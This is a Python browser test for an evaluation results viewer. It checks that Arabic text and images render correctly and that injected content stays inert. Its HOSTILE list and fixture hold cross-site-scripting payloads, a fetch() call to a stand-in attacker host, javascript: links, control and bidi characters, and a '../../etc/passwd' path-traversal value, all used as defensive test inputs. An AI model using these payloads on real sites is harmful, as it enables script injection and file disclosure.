"""Inspect's viewer in a browser: a published bundle shows answers, images and Arabic, and hostile texts do nothing."""

import json
import re

import pytest
from browser import Visited, chromium, needs_chromium, served
from planted import plant, write_details
from viewer_runs import picture, plant_all, row

from cultureval.reports.viewer.bundle import write_bundle
from cultureval.reports.viewer_links import MARK

pytestmark = needs_chromium
HOSTILE = (
    "<script>alert(1)</script></script><script>fetch('https://evil.example/a')</script>",
    "<img src=https://evil.example/x.png onerror=alert(2)><iframe src='https://evil.example'></iframe>",
    "![i](https://evil.example/i.png) [link](https://evil.example) <https://evil.example> www.evil.example",
    "[l](javascript:alert(3)) $\\href{javascript:alert(4)}{x}$ $$\\includegraphics{https://evil.example/t.png}$$",
    "# heading\n> quoted\n```html\n<b onmouseover=alert(5)>\n```\n| a | b |\n|---|---|",
    "\u202eabc\u202c\u2067\x00\x07\x1b[31m SURROGATE\ud800 \u200b",
    "attachment://0 tc://x &lt;img src=x onerror=alert(6)&gt; {{7*7}} ${alert(7)}",
    "A" * 1_000_000 + "</script>",
)


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    """A bundle with an answer of each kind, and hostile texts everywhere, with images and without."""
    root, folder = tmp_path_factory.mktemp("results"), tmp_path_factory.mktemp("site")
    plant_all(root)
    stored = [text.replace("\ud800", "") for text in HOSTILE]  # a parquet file holds no broken letters
    model, date = "<script>alert(8)<", "2026-11-01T10-00-00.000000"
    tasks = {}
    for task, images in (("hostile_texts|0", None), ("cvlue_vqa|0", [picture(), "../../etc/passwd"])):
        fields = [
            {"answer": text, "choices": [text], "images": images, "reasoning": text[:500], "id": f"{text[:60]}/../{n}"}
            for n, text in enumerate(stored)
        ]
        rows = [row(n, stored[n], {"acc": 1.0}, note=stored[n][:500], **one) for n, one in enumerate(fields)]
        tasks[task] = rows
    plant(root, tasks, model, date)
    for task, rows in tasks.items():  # what a metric of another package may leave
        strange = [
            row | {"metric": {"acc": 1.0, "m<b>": "</script>" if n else "<i>x</i>"}} for n, row in enumerate(rows)
        ]
        write_details(root, model, date, task, strange)
    write_bundle([root], folder / "site", gated=True)
    return folder / "site"


@pytest.fixture(scope="module")
def visits(site):
    """Opens pages of the bundle, served on an address, in one browser."""
    with served(site) as server, chromium() as browser:
        yield lambda **context: (Visited(browser, server.url, **context), server.url)


def logs_of(site):
    """The addresses of the logs by task."""
    return {task: name for name, (*_, task) in json.loads((site / MARK).read_text())["logs"].items()}


def test_answers_images_and_arabic_are_shown(visits, site):
    visit, address = visits(viewport={"width": 1300, "height": 850})
    page, logs = visit.page, logs_of(site)
    page.goto(f"{address}index.html#/logs/{logs['qimma_aratrust|0']}/samples")
    page.wait_for_selector("text=ما عاصمة المغرب")
    page.goto(f"{address}index.html#/logs/{logs['qimma_aratrust|0']}/samples/sample/a-row-2/1/scoring")
    page.wait_for_selector("text=ordered by")
    assert "gold" in page.inner_text("body") and page.inner_text("body").count("ordered by") == 3
    page.goto(f"{address}index.html#/logs/{logs['jeem_caption:ae|0']}/samples/sample/ae_palm/1/messages")
    page.wait_for_selector("img[src^='data:image/jpeg']")
    line = (
        "[...document.querySelectorAll('*')].find(one => !one.children.length && one.textContent.includes('نخلة عند'))"
    )
    ends = f"""(() => {{ const node = {line}.firstChild, range = document.createRange(), text = node.textContent;
        const at = place => {{ range.setStart(node, place); range.setEnd(node, place + 1);
            return range.getBoundingClientRect().left; }};
        return [at(text.indexOf('ن')), at(text.indexOf('.'))]; }})()"""
    first, stop = page.evaluate(ends)
    assert stop < first, "the full stop of a line from right to left is left of its first letter"
    assert visit.outside == visit.problems == []


def test_hostile_texts_do_nothing_and_are_shown(visits, site):
    visit, address = visits()
    page, logs = visit.page, logs_of(site)
    texts = []
    for task in ("hostile_texts|0", "cvlue_vqa|0"):
        page.goto(f"{address}index.html#/logs/{logs[task]}/samples")
        page.wait_for_selector("text=evil.example")
        hrefs = []
        for place in range(len(HOSTILE) - task.startswith("cvlue")):  # the long one once: it takes seconds
            names = page.evaluate("location.hash")
            page.goto(f"{address}index.html#/logs/{logs[task]}/samples/sample/{identity(place)}/1/messages")
            page.wait_for_selector("text=ASSISTANT", timeout=240_000)
            texts.append(page.inner_text("#app"))
            hrefs += page.eval_on_selector_all("#app a[href]", "links => links.map(one => one.href)")
            made = "#app :is(script, iframe, b[onmouseover], [onerror], img:not([src^='data:image/']))"
            assert page.locator(made).count() == 0, names
        assert [link for link in hrefs if not link.startswith(address)] == []
    shown = "\n".join(texts).replace("\u00a0", " ")
    for text in HOSTILE[:4]:
        assert shown.count(text) >= 2, f"as it is, in both kinds of logs: {text}"
    assert "\x1b" not in shown and "\u202e" not in shown and "\\u202eabc" in shown
    assert "more letters: cultureval show" in shown
    assert visit.outside == visit.problems == []


def identity(place):
    """The name of a hostile sample in its log."""
    text = f"{HOSTILE[place][:60]}/../{place}".replace("\ud800", "")
    return re.sub(r"[^\w.-]+", "-", text[:64]).strip("-.")
